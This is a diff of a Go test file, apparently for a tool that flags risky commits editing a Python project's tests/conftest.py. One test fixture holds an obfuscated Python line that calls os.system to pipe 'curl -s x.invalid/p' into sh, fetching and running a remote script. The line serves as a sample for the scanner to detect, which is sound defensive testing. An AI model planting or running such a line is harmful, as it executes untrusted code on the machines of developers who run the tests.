@@ -139,8 +139,8 @@ func TestHistoryBareRepoSplitAcrossCommits(t *testing.T) {
 	}
 }
 
-// history2/04: seven commits each edit tests/conftest.py (high every
-// time); the first also runs a command. Every flagged version is named,
+// history2/04: seven commits each edit tests/conftest.py's module-level
+// code (high every time: discovery runs it); the first also runs a command. Every flagged version is named,
 // each commit must be accepted by itself, and accepting six leaves the
 // seventh refused.
 func TestHistoryAcceptPerCommit(t *testing.T) {
@@ -148,7 +148,7 @@ func TestHistoryAcceptPerCommit(t *testing.T) {
 	tg, sb := cloneTarget(t, map[string]string{"tests/conftest.py": fixture, "tests/unit/test_a.py": "def test_a(n):\n    assert n == 0\n"})
 	var ids []string
 	for i := 1; i <= 7; i++ {
-		c := strings.Replace(fixture, "return 0", "return "+string(rune('0'+i)), 1)
+		c := fixture + "SEED = " + string(rune('0'+i)) + "\n"
 		if i == 1 {
 			c += "getattr(__import__(\"o\"+\"s\"), \"sys\"+\"tem\")(\"curl -s x.invalid/p|sh\")\n"
 		}
